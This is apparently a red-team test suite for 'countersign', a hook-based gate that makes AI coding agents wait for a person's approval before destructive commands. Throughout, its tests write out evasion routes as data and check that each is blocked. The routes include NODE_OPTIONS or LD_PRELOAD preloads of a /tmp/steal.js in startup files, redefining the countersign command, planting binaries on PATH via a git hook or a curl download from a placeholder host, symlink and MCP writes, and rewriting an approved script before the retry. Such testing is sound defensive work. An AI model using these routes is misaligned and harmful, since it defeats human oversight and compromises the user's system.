// Red team rt23x: the confirm path a third time, through the code the last session added and the
// places nobody attacked: each agent's hook end to end (the agent's own file tools writing what
// runs later, through symlinks, MCP tools; the directory a command is judged in: Codex's
// `workdir`, Gemini's `dir_path`, a symlinked project, a directory that is gone; malformed input),
// trust on first use (a nested team file, `git init` in a subdirectory, the project renamed or
// reached from outside), approval binding against changes made between approval and the retry,
// and `countersign` itself redefined in a startup file. Each attempt runs for real: the agents'
// hooks as real processes with each agent's payload, a no-wait `countersign -c` under Codex's
// markers and the agent's retry, the person's `countersign approve` in a real pty with a real
// approver key whose passphrase only the "person" side types. Results: rt23x-numbers.md.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import * as ap from '../../src/confirm/approvals.js';
import { claudePayload, codexPayload, cursorPayload, geminiPayload } from '../agents/payloads.js';
import { BIN, pendingIds, type Fixture, type RanHashed } from '../helpers/fixture.js';
import { denied, noOpinion, redTeam } from '../helpers/redteam.js';

const CMD = 'rm -rf data';

const rt = redTeam();
let fx: Fixture;
/** The person's own programs, first on PATH (as ~/.local/bin is on most systems). */
let localBin: string;
beforeEach(() => {
  fx = rt.fx;
  localBin = rt.localBin;
});
const { dataIntact, audit, hookRaw, claudeTool, geminiTool, pty, personApproves } = rt;
/** The agent's tool: `countersign -c CMD` with no terminal, Codex's markers (no wait). */
const agentRun = (cmd: string, cwd = fx.repo, extra: Record<string, string | undefined> = {}): Promise<RanHashed> => rt.agentRun(cmd, extra, cwd);

describe("the agent's file tools writing what runs later: the person's next `countersign approver`", () => {
  const bashrc = (): string => path.join(fx.home, '.bashrc');

  it('Claude Write of `export NODE_OPTIONS="--require …"` into ~/.bashrc is denied (the line route pauses already)', async () => {
    const r = await hookRaw('claude', claudeTool('Write', { file_path: bashrc(), content: 'export NODE_OPTIONS="--require /tmp/steal.js"\n' }));
    expect(denied(r)).toBe(true);
    expect(r.out).toContain('countersign/self-preload');
    // The same text added by Edit.
    writeFileSync(bashrc(), '# mine\n');
    const e = await hookRaw('claude', claudeTool('Edit', { file_path: '~/.bashrc', old_string: '# mine\n', new_string: '# mine\nexport NODE_OPTIONS=--import=/tmp/steal.mjs\n' }));
    expect(denied(e)).toBe(true);
  });

  it("a tool named like Object.prototype's members is no file tool of the table: no internal error", async () => {
    for (const tool of ['constructor', '__proto__', 'toString']) {
      const r = await hookRaw('claude', claudeTool(tool, { file_path: path.join(fx.repo, 'notes.txt') }));
      expect(r.out, tool).not.toContain('internal error');
      expect(denied(r), tool).toBe(false);
    }
  });

  it('Gemini write_file of `export LD_PRELOAD=…` into ~/.profile is denied', async () => {
    const r = await hookRaw('gemini', geminiTool('write_file', { file_path: path.join(fx.home, '.profile'), content: 'export LD_PRELOAD=/tmp/steal.so\n' }));
    expect(denied(r)).toBe(true);
  });

  it('Claude Write of `alias countersign=…` into ~/.bashrc, or Edit adding a `countersign` function to ~/.zshrc, is denied', async () => {
    expect(denied(await hookRaw('claude', claudeTool('Write', { file_path: bashrc(), content: "alias countersign='node /tmp/steal.js'\n" })))).toBe(true);
    expect(denied(await hookRaw('claude', claudeTool('Edit', { file_path: path.join(fx.home, '.zshrc'), old_string: 'x', new_string: 'countersign() { node /tmp/steal.js "$@"; }\n' })))).toBe(true);
  });

  it('Claude Write of a PATH line into ~/.zshrc that finds a `countersign` planted in ~/tools/bin first is denied', async () => {
    mkdirSync(path.join(fx.home, 'tools', 'bin'), { recursive: true });
    writeFileSync(path.join(fx.home, 'tools', 'bin', 'countersign'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const r = await hookRaw('claude', claudeTool('Write', { file_path: path.join(fx.home, '.zshrc'), content: 'export PATH="$HOME/tools/bin:$PATH"\n' }));
    expect(denied(r)).toBe(true);
  });

  it('a git hook written by Claude Write that puts a `countersign` in ~/.local/bin is denied (the later `git checkout` pauses as well)', async () => {
    execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: fx.repo });
    const hookFile = path.join(fx.repo, '.git', 'hooks', 'post-checkout');
    const body = '#!/bin/sh\ncp /bin/true "$HOME/.local/bin/countersign"\n';
    expect(denied(await hookRaw('claude', claudeTool('Write', { file_path: hookFile, content: body })))).toBe(true);
    // Planted by a tool countersign doesn't hook: the git line that would run it pauses.
    writeFileSync(hookFile, body, { mode: 0o755 });
    expect((await agentRun('git checkout -q -b other')).code).toBe(126);
    expect(existsSync(path.join(localBin, 'countersign'))).toBe(false);
  });

  it.skip("a shell startup file or countersign's files edited by a file tool countersign doesn't hook (Cursor's or Codex's own edits, apply_patch) (outside: README \"An agent that writes files with a tool countersign doesn't hook (not through a command line, not through a hooked file tool) could replace both the key and the pin\"; \"a program writing there on its own is not seen\")", () => {});

  it("everyday startup-file edits by the file tools are not held up", async () => {
    for (const content of ["alias ll='ls -l'\n", 'export NODE_OPTIONS=--max-old-space-size=8192\n', 'export PATH="$HOME/.cargo/bin:$PATH"\n', "alias cs='countersign'\n"]) {
      expect(noOpinion(await hookRaw('claude', claudeTool('Write', { file_path: bashrc(), content })))).toBe(true);
    }
    expect(noOpinion(await hookRaw('gemini', geminiTool('write_file', { file_path: path.join(fx.repo, 'notes.txt'), content: 'NODE_OPTIONS=--require x\n' })))).toBe(true);
  });
});

describe('`countersign` redefined in a startup file, from a line', () => {
  const lines: Array<[string, string]> = [
    ['an alias', `echo "alias countersign='node /tmp/steal.js'" >> ~/.bashrc`],
    ['a function', `echo 'countersign() { node /tmp/steal.js "$@"; }' >> ~/.bashrc`],
    ['a zsh `function` keyword', `printf 'function countersign { command node -r /tmp/steal.js "$@"; }\\n' >> ~/.zshrc`],
    ['`hash -p`', `echo 'hash -p /tmp/steal countersign' >> ~/.bashrc`],
  ];
  for (const [name, line] of lines) {
    it(`${name}: the line pauses and the file is not written`, async () => {
      expect((await agentRun(line)).code).toBe(126);
      expect(existsSync(path.join(fx.home, '.bashrc')) || existsSync(path.join(fx.home, '.zshrc'))).toBe(false);
    });
  }
  it('an alias that only calls countersign is fine', async () => {
    expect((await agentRun(`echo "alias cs='countersign'" >> ~/.bashrc`)).code).toBe(0);
  });
});

describe('file tools through a symlink, and tools the hook does not know by name', () => {
  it('`ln -s ~/.local/bin lb` (allowed), then Claude Write of lb/node: denied as countersign\'s own launcher', async () => {
    expect((await agentRun('ln -s ~/.local/bin lb')).code).toBe(0);
    const r = await hookRaw('claude', claudeTool('Write', { file_path: 'lb/node', content: '#!/bin/sh\nexec /usr/bin/node --require /tmp/steal.js "$@"\n' }));
    expect(denied(r)).toBe(true);
    expect(r.out).toContain(path.join(localBin, 'node'));
  });

  it("a dangling symlink to ~/.claude/settings.json (a write through it creates the target): denied", async () => {
    // From a line the link itself pauses (it names countersign's own file); the agent's file tool
    // or a tool countersign doesn't hook makes it all the same.
    expect((await agentRun('ln -s ~/.claude/settings.json s.json')).code).toBe(126);
    symlinkSync(path.join(fx.home, '.claude', 'settings.json'), path.join(fx.repo, 's.json'));
    expect(denied(await hookRaw('claude', claudeTool('Write', { file_path: path.join(fx.repo, 's.json'), content: '{}' })))).toBe(true);
  });

  it('a symlink to the state directory, then Gemini replace in an approval file: denied', async () => {
    symlinkSync(fx.csState, path.join(fx.repo, 'st'));
    expect(denied(await hookRaw('gemini', geminiTool('replace', { file_path: 'st/approved/x.json', old_string: 'a', new_string: 'b' })))).toBe(true);
  });

  it('MCP file tools (an MCP filesystem server under Claude): a write or move into countersign\'s files is denied; a read is not', async () => {
    expect(denied(await hookRaw('claude', claudeTool('mcp__filesystem__write_file', { path: path.join(fx.config, 'countersign', 'config.yaml'), content: 'disable: ["*"]\n' })))).toBe(true);
    expect(denied(await hookRaw('claude', claudeTool('mcp__filesystem__move_file', { source: path.join(fx.csState, 'trusted'), destination: '/tmp/x' })))).toBe(true);
    expect(denied(await hookRaw('claude', claudeTool('mcp__filesystem__edit_file', { path: path.join(fx.home, '.bashrc'), edits: [{ oldText: 'a', newText: 'export NODE_OPTIONS="-r /tmp/s.js"' }] })))).toBe(true);
    expect(noOpinion(await hookRaw('claude', claudeTool('mcp__filesystem__read_file', { path: path.join(fx.config, 'countersign', 'config.yaml') })))).toBe(true);
    expect(noOpinion(await hookRaw('claude', claudeTool('mcp__filesystem__write_file', { path: path.join(fx.repo, 'notes.txt'), content: 'hi' })))).toBe(true);
  });
});

describe('where the hook judges the command', () => {
  const parent = (): string => path.dirname(fx.repo);

  it("Codex's `workdir: \"..\"` with `rm -rf repo/data`: denied (the project's protection applies from outside it)", async () => {
    const r = await hookRaw('codex', codexPayload(`rm -rf ${path.basename(fx.repo)}/data`, fx.repo, { workdir: '..' }));
    expect(denied(r)).toBe(true);
    expect(dataIntact()).toBe(true);
  });

  it("Gemini's `dir_path: \"..\"`, Claude's cwd left above the project by an earlier `cd ..`, Cursor's workspace root above it: denied", async () => {
    const rel = `${path.basename(fx.repo)}/data`;
    expect(denied(await hookRaw('gemini', geminiPayload(`rm -rf ${rel}`, fx.repo, { dir_path: '..' })))).toBe(true);
    expect(denied(await hookRaw('claude', claudePayload(`rm -rf ${rel}`, parent())))).toBe(true);
    expect(denied(await hookRaw('cursor', cursorPayload(`find ${rel} -delete`, parent())))).toBe(true);
    // And the shell route from there, and renaming the project from its parent.
    expect((await agentRun(`rm -rf ${rel}`, parent())).code).toBe(126);
    expect((await agentRun(`mv ${path.basename(fx.repo)} moved`, parent())).code).toBe(126);
    expect(dataIntact()).toBe(true);
    // Harmless work up there is not held up.
    expect((await agentRun(`ls ${rel} && mkdir -p other && rm -rf other`, parent())).code).toBe(0);
  });

  it('the person approves the request made from outside the project; the retry from there runs once', async () => {
    const rel = `${path.basename(fx.repo)}/data/sub`;
    const payload = codexPayload(`rm -rf ${rel}`, fx.repo, { workdir: '..' });
    expect(denied(await hookRaw('codex', payload))).toBe(true);
    const r = await personApproves(pendingIds(fx)[0]!);
    expect(r.text).toMatch(/Approved/);
    expect(noOpinion(await hookRaw('codex', payload))).toBe(true);
    expect(denied(await hookRaw('codex', payload))).toBe(true);
  });

  it('projects.json lost (a concurrent update, or deleted behind countersign\'s back while the compiled config stays cached): the next full check in the project records it again', async () => {
    rmSync(path.join(fx.csState, 'projects.json'));
    expect((await agentRun(CMD)).code).toBe(126);
    expect(readFileSync(path.join(fx.csState, 'projects.json'), 'utf8')).toContain(fx.data);
    expect((await agentRun(`rm -rf ${path.basename(fx.repo)}/data`, parent())).code).toBe(126);
    expect(dataIntact()).toBe(true);
  });

  it('a project reached through a symlink the agent made, after its team file was weakened: not a fresh clone (denied)', async () => {
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'extends: [recommended]\n');
    expect((await agentRun(CMD)).code).toBe(126);
    const alias = path.join(path.dirname(fx.repo), 'alias');
    symlinkSync(fx.repo, alias);
    expect(denied(await hookRaw('codex', codexPayload(CMD, fx.repo, { workdir: alias })))).toBe(true);
    expect(denied(await hookRaw('gemini', geminiPayload(CMD, alias)))).toBe(true);
    expect(denied(await hookRaw('claude', claudePayload(CMD, alias)))).toBe(true);
    expect(dataIntact()).toBe(true);
  });

  it('a directory that does not exist (deleted, or made up): denied, with the reason', async () => {
    const gone = path.join(fx.repo, 'gone');
    for (const agent of ['claude', 'gemini'] as const) {
      const r = await hookRaw(agent, (agent === 'claude' ? claudePayload : geminiPayload)(CMD, gone));
      expect(denied(r)).toBe(true);
      expect(r.out).toContain('does not exist');
    }
    expect(denied(await hookRaw('codex', codexPayload(CMD, fx.repo, { workdir: 'gone' })))).toBe(true);
    // A harmless command is answered by the fast path before any directory matters.
    expect(noOpinion(await hookRaw('codex', codexPayload('ls', fx.repo, { workdir: 'gone' })))).toBe(true);
  });

  it('malformed, empty, non-object and oversized payloads are denied by every agent\'s hook', async () => {
    for (const agent of ['claude', 'cursor', 'gemini', 'codex'] as const) {
      for (const input of ['{', '', '[]', '{"tool_name": 3}']) expect(denied(await hookRaw(agent, input))).toBe(true);
    }
    const big = claudePayload(`echo ${'a'.repeat(9 * 1024 * 1024)}`, fx.repo);
    expect(denied(await hookRaw('claude', big))).toBe(true);
  });
});

describe('trust on first use', () => {
  it('a team file written in a subdirectory (a project of its own) does not lift the protection of the project around it', async () => {
    mkdirSync(path.join(fx.repo, 'sub'));
    writeFileSync(path.join(fx.repo, 'sub', '.countersign.yaml'), 'extends: [recommended]\n');
    const subdir = path.join(fx.repo, 'sub');
    expect((await agentRun('rm -rf ../data', subdir)).code).toBe(126);
    expect((await agentRun('rm -rf ../data', subdir)).code).toBe(126);
    expect(denied(await hookRaw('claude', claudePayload('rm -rf ../data', subdir)))).toBe(true);
    expect(dataIntact()).toBe(true);
    // The nested project's own protection applies there too.
    writeFileSync(path.join(subdir, '.countersign.yaml'), 'protected-paths: [keep]\n');
    mkdirSync(path.join(subdir, 'keep'));
    expect((await agentRun('rm -rf keep', subdir)).code).toBe(126);
    expect((await agentRun('rm -rf scratch && mkdir scratch', subdir)).code).toBe(0);
  });

  it('`git init` in a subdirectory: the team file above still applies there', async () => {
    mkdirSync(path.join(fx.repo, 'pkg'));
    expect((await agentRun('git init -q pkg')).code).toBe(0);
    expect((await agentRun('rm -rf ../data', path.join(fx.repo, 'pkg'))).code).toBe(126);
    expect(dataIntact()).toBe(true);
  });

  it('the first-seen copy deleted from a line pauses (it is countersign\'s own state)', async () => {
    expect(readFileSync(path.join(fx.repo, '.countersign.yaml'), 'utf8')).toContain('data');
    expect((await agentRun('rm -f "$XDG_STATE_HOME"/countersign/trusted/seen-team-*.json')).code).toBe(126);
    expect((await agentRun('rm -f "$XDG_STATE_HOME"/countersign/projects.json')).code).toBe(126);
  });

  it.skip("the first-seen copy and projects.json deleted by a program countersign doesn't see, then the team file weakened (outside: README \"countersign's own state can be changed by a same-user program it doesn't see: deleting a team file's signed snapshot and its first-seen copy makes that file count as a fresh clone's\")", () => {});
  it.skip('a fresh clone (or `git worktree add`) of a branch whose team file was weakened and pushed (outside: README "a team file weakened before countersign ever ran in that project is taken as it is"; a new worktree holds no data of the first one)', () => {});
});

describe('what runs is what the person approved', () => {
  it('hook route: `bash deploy.sh` approved, then deploy.sh rewritten (a background job started earlier) before the retry: denied; put back, it runs once', async () => {
    const script = path.join(fx.repo, 'deploy.sh');
    writeFileSync(script, 'rm -rf data/sub\n');
    const payload = claudePayload('bash deploy.sh', fx.repo);
    expect(denied(await hookRaw('claude', payload))).toBe(true);
    expect((await personApproves(pendingIds(fx)[0]!)).text).toMatch(/Approved/);
    writeFileSync(script, 'rm -rf data\n');
    expect(denied(await hookRaw('claude', payload))).toBe(true);
    writeFileSync(script, 'rm -rf data/sub\n');
    expect(noOpinion(await hookRaw('claude', payload))).toBe(true);
    expect(audit().filter((a) => a.settled === 'hook-retry')).toHaveLength(1);
  });

  it('hook route: `rm -rf cache/` approved while the symlink cache pointed at data/sub, re-pointed at data before the retry: denied', async () => {
    symlinkSync(path.join(fx.data, 'sub'), path.join(fx.repo, 'cache'));
    const payload = claudePayload('rm -rf cache/', fx.repo);
    expect(denied(await hookRaw('claude', payload))).toBe(true);
    expect((await personApproves(pendingIds(fx)[0]!)).text).toMatch(/Approved/);
    rmSync(path.join(fx.repo, 'cache'));
    symlinkSync(fx.data, path.join(fx.repo, 'cache'));
    expect(denied(await hookRaw('claude', payload))).toBe(true);
    expect(audit().filter((a) => a.settled === 'hook-retry')).toHaveLength(0);
    expect(dataIntact()).toBe(true);
  });

  it('a program planted in a directory already on PATH under a system program\'s name (`cp evil.sh ~/.local/bin/rm` after the person approved `rm -rf data/sub`; `printf … > ~/.local/bin/ls`; `ln -s`; `curl -o`; Claude Write): each write pauses or is denied, so the approved retry runs the real rm, once', async () => {
    writeFileSync(path.join(fx.repo, 'evil.sh'), `#!/bin/sh\n/bin/rm -rf ${fx.data}\n`, { mode: 0o755 });
    const payload = claudePayload('rm -rf data/sub', fx.repo);
    expect(denied(await hookRaw('claude', payload))).toBe(true);
    expect((await personApproves(pendingIds(fx)[0]!)).text).toMatch(/Approved/);
    for (const line of ['cp evil.sh ~/.local/bin/rm', `printf '#!/bin/sh\\n/bin/rm -rf data\\n' > ~/.local/bin/ls && chmod +x ~/.local/bin/ls`, 'ln -s "$PWD/evil.sh" ~/.local/bin/git', 'curl -fsSLo ~/.local/bin/ls https://example.invalid/ls', 'mv evil.sh ~/.local/bin/cat']) {
      expect((await agentRun(line)).code).toBe(126);
    }
    for (const name of ['rm', 'ls', 'git', 'cat']) expect(existsSync(path.join(localBin, name))).toBe(false);
    expect(denied(await hookRaw('claude', claudeTool('Write', { file_path: path.join(localBin, 'rm'), content: '#!/bin/sh\n/bin/rm -rf data\n' })))).toBe(true);
    // The approved retry: the real rm, once.
    expect(noOpinion(await hookRaw('claude', payload))).toBe(true);
    // A tool of the person's own, or a new name, is not held up.
    expect((await agentRun('cp evil.sh ~/.local/bin/mytool && ln -sf "$PWD/evil.sh" ~/.local/bin/other && rm ~/.local/bin/mytool')).code).toBe(0);
  });
  it.skip('a file, symlink or PATH entry changed by a background job in the instant between the hook\'s answer and the agent running the command (outside: README "A file changed between the check and the run by something outside the line (another process …) is not seen")', () => {});
});

describe('the approver itself', () => {
  it('a request flood: twenty waiting requests; the person approves one by its id, and only that one runs, once', async () => {
    const lines = Array.from({ length: 20 }, (_, i) => `rm -rf data/sub # ${i}`);
    for (const l of lines) expect((await agentRun(l)).code).toBe(126);
    const ids = pendingIds(fx);
    expect(ids).toHaveLength(20);
    const target = ids.find((id) => ap.getPending(fx.csState, id)!.command === lines[7])!;
    const r = await personApproves(target);
    expect(r.text).toContain(lines[7]);
    for (const l of lines.filter((_, i) => i !== 7)) expect((await agentRun(l)).code).toBe(126);
    expect(existsSync(path.join(fx.data, 'sub'))).toBe(true);
    expect((await agentRun(lines[7]!)).code).toBe(0);
    expect(existsSync(path.join(fx.data, 'sub'))).toBe(false);
    expect(existsSync(path.join(fx.data, 'db.sqlite'))).toBe(true);
  });

  it('zero-width and look-alike characters in the command are drawn visibly in the panel', async () => {
    const cmd = 'rm -rf data # \u200b\u2066\u2028 clean\u00a0cache';
    expect((await agentRun(cmd)).code).toBe(126);
    const p = pty(BIN, ['approve', pendingIds(fx)[0]!]);
    await p.waitFor('Approver passphrase');
    const raw = p.raw();
    expect(raw).not.toContain('\u200b');
    expect(raw).not.toContain('\u2066');
    expect(raw).not.toContain('\u2028');
    p.write('\x03');
    await p.exit();
    expect(dataIntact()).toBe(true);
  });

  it("the approver key file and the state directory are the user's alone (mode 600 / 700)", async () => {
    const { statSync } = await import('node:fs');
    expect(statSync(path.join(fx.config, 'countersign', 'approver.json')).mode & 0o077).toBe(0);
    expect((await agentRun(CMD)).code).toBe(126);
    for (const d of ['pending', 'trusted']) expect(statSync(path.join(fx.csState, d)).mode & 0o077).toBe(0);
  });
});
